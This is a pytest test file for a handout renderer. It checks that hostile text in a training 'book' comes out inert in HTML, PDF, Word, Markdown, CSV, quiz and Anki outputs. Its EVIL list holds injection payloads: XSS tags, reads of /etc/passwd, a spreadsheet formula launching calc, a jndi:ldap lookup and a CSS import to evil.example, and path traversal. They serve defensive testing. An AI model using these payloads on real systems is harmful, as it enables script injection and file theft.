"""Nothing in a book becomes script, markup, a formula or a file, whatever the format."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from typing import TYPE_CHECKING

import pytest
from markdown_it import MarkdownIt
from pypdf import PdfReader

from servkit.handout import formats, sheets
from servkit.handout.formats.csv import safe
from servkit.handout.html_blocks import inline
from servkit.handout.prose import prose
from servkit.handout.renderer import render

from . import books
from .paper_text import page_texts

if TYPE_CHECKING:
    from pathlib import Path

    from .chromium import Browser

EVIL = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(2)>",
    "</style></script><svg onload=alert(3)>",
    '"><iframe src="file:///etc/passwd"></iframe>',
    '#import "@preview/evil:0.1.0" #read("/etc/passwd") $x$ ]] } #panic()',
    "=cmd|'/C calc'!A0",
    "+SUM(1)",
    "@import url(http://evil.example/x.css)",
    "[link](javascript:alert(4)) [file](file:///etc/passwd) ![p](http://evil.example/p.png)",
    "{{ '' }} {=right ~wrong #hint} ::x:: $CATEGORY: y",
    "&lt;b&gt; &#60;script&#62; <!-- -->",
    "\\input{/etc/passwd} ${jndi:ldap://evil.example}",
    "../../../etc/passwd",
)


def _quoted(words: str) -> str:
    return "'" + words.replace("'", "''") + "'"


@pytest.fixture(scope="module")
def evil(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A book in which every text is an attack."""
    all_of = _quoted("\n\n".join(EVIL))
    one = {number: _quoted(words) for number, words in enumerate(EVIL)}
    listed = "[" + ", ".join(one.values()) + "]"
    wording = "{" + ", ".join(f"{words}: {words}" for words in one.values()) + "}"
    settings = books.SETTINGS.replace("name: Small & Sons", f"name: {one[0]}").replace(
        "title: Nothing yet", f"title: {one[2]}"
    )
    settings = settings.replace("avoid: {", f"avoid: {{{one[5]}: {one[5]}, ")
    standard = f"""\
kind: standard
id: evil
title: {one[1]}
why: {all_of}
area: desk
tags: [{one[4]}, {one[5]}]
statement: {all_of}
terms: {{a: {{title: {one[5]}, value: 20 seconds}}, b: {{title: {one[6]}, value: 30 seconds}}, c: 40 seconds}}
do: {listed}
ask: {listed}
listen_for: {listed}
go_beyond: {listed}
stories: {listed}
step_away: [{{if: {one[0]}, then: {one[4]}}}]
wording: {wording}
say: [evil]
"""
    script = f"kind: script\nid: evil\ntitle: {one[0]}\nwhy: {all_of}\narea: desk\nsay: {all_of}\n"
    scenario = f"""\
kind: scenario
id: evil
title: {one[3]}
why: {all_of}
story: {all_of}
customer: {{name: {one[0]}}}
given: {{today: 2026-03-01, role: clerk}}
about: desk
expect: {{terms: {{evil.a: 20 seconds}}}}
debrief: {listed}
"""
    return books.small(tmp_path_factory.mktemp("evil"), standard, script, scenario, settings=settings)


def test_the_book_is_read(evil: Path) -> None:
    book = books.material(evil).library
    assert list(book.problems) == []


@pytest.mark.browser
@pytest.mark.parametrize("sheet", ["handbook", "card", "roleplay", "quiz-key", "checklist"])
def test_in_a_browser(browser: Browser, evil: Path, tmp_path: Path, sheet: str) -> None:
    [file] = render(sheet, books.material(evil, questions=0))
    (tmp_path / "page.html").write_bytes(file.data)
    browser.open(tmp_path / "page.html", 360)
    assert browser.complaints == []
    assert [url for url in browser.loaded if not url.startswith("file:///tmp")] == []
    assert browser.run("document.querySelectorAll('script').length") == 1
    assert browser.run("document.querySelectorAll('iframe, svg, img, object, embed, link, base, form').length") == 0
    assert browser.run("document.documentElement.scrollWidth") <= 360
    assert browser.run(
        "[...document.querySelectorAll('a')].every(a => /^(#|https?:|mailto:)/.test(a.getAttribute('href')))"
    )
    if sheet == "handbook":
        assert "<img src=x onerror=alert(2)>" in browser.run("document.body.textContent")


def test_every_html_attribute_and_text_is_escaped(evil: Path) -> None:
    for file in render("all", books.material(evil, questions=0)):
        page = file.data.decode()
        assert page.count("<script>") == page.count("</script>") == 1
        assert page.count("<style>") == page.count("</style>") == 1
        assert not re.search(r"<[^>]*\son\w+=", page)
        assert "default-src 'none'" in page


def test_in_pdf(evil: Path) -> None:
    every = ""
    for file in render("all", books.material(evil, questions=0), "pdf"):
        reader = PdfReader(io.BytesIO(file.data))
        words = "".join(page_texts(file.data))
        every += words
        assert "root:" not in words
        assert b"/JavaScript" not in file.data
        for page in reader.pages:
            for note in page.get("/Annots") or []:
                action = note.get_object().get("/A") or {}
                assert str(action.get("/URI", "https:")).startswith(("http", "mailto:"))
    assert "#import" in every


def test_in_word(evil: Path) -> None:
    for file in render("all", books.material(evil, questions=0), "docx"):
        with zipfile.ZipFile(io.BytesIO(file.data)) as archive:
            text = archive.read("word/document.xml").decode()
            relations = archive.read("word/_rels/document.xml.rels").decode()
        fields = set(re.findall(r"<w:instrText[^>]*>([^<]*)", text))
        assert fields == set()
        assert "javascript" not in relations
        assert "file:" not in relations
        assert "<script" not in text


def test_in_markdown(evil: Path) -> None:
    """A wiki that lets HTML through sees none but our own places, and a parser finds no link that we did not make."""
    for file in render("all", books.material(evil, questions=0), "md"):
        words = file.data.decode()
        tags = set(re.findall(r"(?<!\\)<[a-zA-Z/!][^>]*>", re.sub(r"`+[^`]*`+", "", words)))
        assert {
            tag for tag in tags if not re.fullmatch(r'<a id="[a-z0-9-]+">|</a>|<br>|<(https?|mailto):[^>]*>', tag)
        } == set()
        tokens = MarkdownIt("commonmark").parse(words)
        links = [t.attrGet("href") for token in tokens for t in token.children or [] if t.type == "link_open"]
        assert all(str(link).startswith(("#", "http")) for link in links)
        assert not [t for token in tokens for t in token.children or [] if t.type == "image"]


def test_in_a_spreadsheet(evil: Path) -> None:
    for file in render("quiz", books.material(evil, questions=0), "csv"):
        rows = list(csv.reader(io.StringIO(file.data.decode("utf-8-sig"))))
        assert len(rows) > 5
        assert len({len(row) for row in rows}) == 1
        assert [cell for row in rows for cell in row if cell[:1] in tuple("=+-@\t\r")] == []


@pytest.mark.parametrize("cell", ["=1", "+1", "-1", "@x", "\t=1", " =1", "\uff1d1", "\r\n=1"])
def test_no_cell_is_worked_out(cell: str) -> None:
    assert safe(cell).startswith("'")


def test_on_a_learning_platform(evil: Path) -> None:
    [file] = render("quiz", books.material(evil, questions=0), "gift")
    questions = [part for part in file.data.decode().split("\n\n")[1:] if part.strip()]
    for question in questions:
        body = re.sub(r"\\.", "", question)
        assert body.count("{") == body.count("}") == 1
        assert len(re.findall(r"^\t=", body, re.MULTILINE)) == 1
        assert body.startswith("::q")


def test_in_anki(evil: Path) -> None:
    [file] = render("quiz", books.material(evil, questions=0), "anki")
    notes = [line for line in file.data.decode().split("\n") if line and not line.startswith("#")]
    assert all(len(note.split("\t")) == 4 for note in notes)
    assert not re.search(r"<(?!/?b>|br>)", "".join(notes))
    assert "{{" not in "".join(notes)


@pytest.mark.parametrize(
    "target", ["javascript:alert(1)", "data:text/html,x", "file:///etc/passwd", "//evil", "../x", "vbscript:x"]
)
def test_no_link_leads_astray(target: str) -> None:
    assert "href" not in "".join(inline(block.words) for block in prose(f"[x]({target})"))  # type: ignore[attr-defined]


def test_no_control_character_gets_through(tmp_path: Path) -> None:
    root = books.small(
        tmp_path, 'kind: standard\nid: x\ntitle: "a\\u202eb\\u2066c\\uffffd"\nwhy: "e\\u0007f"\narea: desk\n'
    )
    for document in sheets.handouts("handbook", books.material(root)):
        for format_ in ("html", "md", "docx", "pdf"):
            formats.write(format_, document, books.material(root).theme)
        page = formats.write("html", document, books.material(root).theme).decode()
        assert not re.search("[\u202a-\u202e\u2066-\u2069\uffff\u0007]", page)
